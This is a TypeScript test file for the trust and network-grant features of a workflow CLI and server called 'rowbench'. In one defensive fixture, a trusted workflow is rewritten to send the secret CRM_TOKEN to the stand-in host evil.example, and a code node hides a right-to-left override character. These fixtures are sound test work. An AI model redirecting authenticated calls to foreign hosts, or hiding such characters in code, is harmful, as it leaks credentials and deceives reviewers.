import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import { callApi } from '../../builders/api-client.ts';
import { runCli, type CliResult } from '../../builders/run-cli.ts';
import { startServerProcess } from '../../builders/server-process.ts';
import { temporaryFolder } from '../../builders/temporary-folder.ts';

const flow = (id: string, url: string): string => `rowbench: 1
id: ${id}
name: Company data
nodes:
  - { id: input, type: input }
  - id: company
    type: http
    request: { url: "${url}" }
    auth: { secret: CRM_TOKEN }
  - id: tidy
    type: code
    code: |
      const word = "\u202e";
      return row.name;
  - { id: result, type: output, fields: { name: "=nodes.tidy" } }
`;

let dataDir: string;

async function put(path: string, text: string): Promise<void> {
  const file = join(dataDir, 'workflows', path);
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, text);
}

const rowbench = (...args: string[]): Promise<CliResult> => runCli([...args, '--data', dataDir]);

beforeEach(async () => {
  dataDir = await temporaryFolder();
  await put('company/company.workflow.yaml', flow('company', 'https://api.example.com/{{ row.name }}'));
  await put('mine.workflow.yaml', flow('mine', '=row.url'));
});

describe('rowbench trust', () => {
  it('shows whom the workflow may call and all of its code, cleaned, and trusts it', async () => {
    const { code, stdout, stderr } = await rowbench('trust', 'company');
    expect([code, stdout]).toEqual([0, '']);
    expect(stderr).toBe(`company
  name     Company data
  file     ${join(dataDir, 'workflows', 'company', 'company.workflow.yaml')}
  nodes    4
  trust    untrusted
  network  public
  calls (1 node):
    company (line 6): https://api.example.com, with the secret CRM_TOKEN
  code (1 piece):
    tidy.code (line 10):
      const word = " ";
      return row.name;
Workflow company is trusted.
`);
    expect((await rowbench('workflows', 'list')).stdout).toMatch(/^company .* trusted +public/m);
  });

  it('takes trust away with --revoke', async () => {
    await rowbench('trust', 'company');
    const { code, stderr } = await rowbench('trust', '--revoke', 'company');
    expect([code, stderr]).toEqual([0, 'Workflow company is not trusted any more.\n']);
    expect((await rowbench('workflows', 'list')).stdout).toMatch(/^company .* untrusted +public/m);
  });

  it.each([
    ['nowhere', 'error: No workflow has the id "nowhere"\n'],
    ['mine', 'error: Workflow "mine" was not imported: it is your own file and always trusted\n'],
  ])('refuses %s', async (id, words) => {
    const { code, stderr } = await rowbench('trust', id);
    expect(code).toBe(1);
    expect(stderr).toContain(words);
  });

  it('says what is new in a workflow that was trusted before', async () => {
    await rowbench('trust', 'company');
    await put('company/company.workflow.yaml', flow('company', 'https://evil.example/'));
    const { stdout } = await rowbench('workflows', 'show', 'company');
    expect(stdout).toContain(
      'untrusted; since it was trusted it reaches further: https://evil.example, the secret CRM_TOKEN to https://evil.example\n',
    );
  });
});

describe('rowbench grants', () => {
  it('changes what the calls of a workflow may reach', async () => {
    expect((await rowbench('grants', 'list')).stdout).toBe(
      'WORKFLOW  NETWORK\ncompany   public\nmine      public\n',
    );
    const allowed = await rowbench('grants', 'allow', 'mine', 'loopback', 'lan');
    expect([allowed.code, allowed.stderr]).toEqual([0, 'Calls of mine may reach: public, lan, loopback.\n']);
    const denied = await rowbench('grants', 'deny', 'mine', 'public', 'lan', 'loopback', '--json');
    expect(JSON.parse(denied.stdout)).toEqual({ workflowId: 'mine', network: [] });
    expect((await rowbench('grants', 'list')).stdout).toBe(
      'WORKFLOW  NETWORK\ncompany   public\nmine      none\n',
    );
  });

  it('knows three classes', async () => {
    const { code, stderr } = await rowbench('grants', 'allow', 'mine', 'everything');
    expect(code).toBe(2);
    expect(stderr).toContain('Allowed choices are public, lan, loopback');
  });
});

describe('an imported file named on the command line', () => {
  it('runs and is tested only once it is trusted', async () => {
    await put('company/company.workflow.yaml', flow('company', 'https://api.example.com/'));
    await put(
      'company/company.tests.yaml',
      'tests: [{ name: none, rows: [], expect: { status: completed, rows: [] } }]\n',
    );
    await rowbench('workflows', 'list');
    const file = join(dataDir, 'workflows', 'company', 'company.workflow.yaml');
    await writeFile(join(dataDir, 'rows.json'), '[]');
    const link = join(await temporaryFolder(), 'mine.workflow.yaml');
    await symlink(file, link);
    const attempts = () =>
      Promise.all([
        runCli(['run', file, '--rows', join(dataDir, 'rows.json')]),
        runCli(['run', link, '--rows', join(dataDir, 'rows.json')]),
        runCli(['test', dirname(file)]),
      ]);
    for (const { code, stderr } of await attempts()) {
      expect(code).toBe(1);
      expect(stderr).toContain('error: Workflow "company" was imported and is not trusted yet.');
    }
    await rowbench('trust', 'company');
    expect((await attempts()).map(({ code }) => code)).toEqual([0, 0, 0]);
  });
});

describe('a server', () => {
  it('answers 403 for an untrusted workflow until it is trusted, and 201 from then on', async () => {
    const server = await startServerProcess({ dataDir });
    onTestFinished(() => server.stop());
    const trigger = () =>
      callApi(server.url, '/api/v1/workflows/company/runs/async', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"rows":[]}',
      });
    const refused = await trigger();
    expect([refused.status, refused.body]).toEqual([
      403,
      {
        success: false,
        error:
          'Workflow "company" was imported and is not trusted yet. See what it does and trust it with: rowbench trust company (add --data DIR unless the data folder is the default one)',
      },
    ]);
    await rowbench('trust', 'company');
    const accepted = await trigger();
    expect(accepted.status).toBe(201);
    await rowbench('trust', '--revoke', 'company');
    expect((await trigger()).status).toBe(403);
    const { runId } = accepted.body['data'] as { runId: string };
    // What was accepted before stays; only a new run of it is refused.
    const status = await callApi(server.url, `/api/v1/workflows/company/runs/${runId}/async/status`);
    expect(status.status).toBe(200);
    const rerun = await rowbench('runs', 'rerun', runId);
    expect(rerun.code).toBe(1);
    expect(rerun.stderr).toContain('is not trusted yet');
  });

  it('refuses a workflow that runs an untrusted one', async () => {
    await put(
      'outer.workflow.yaml',
      `rowbench: 1
id: outer
nodes:
  - { id: input, type: input }
  - { id: inner, type: workflow, workflow: company, row: "=row" }
  - { id: result, type: output, fields: { name: "=nodes.inner.name" } }
`,
    );
    const server = await startServerProcess({ dataDir });
    onTestFinished(() => server.stop());
    const answer = await callApi(server.url, '/api/v1/workflows/outer/runs/async', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"rows":[]}',
    });
    expect(answer.status).toBe(403);
    expect(answer.body['error']).toContain('Workflow "company" was imported and is not trusted yet.');
  });
});
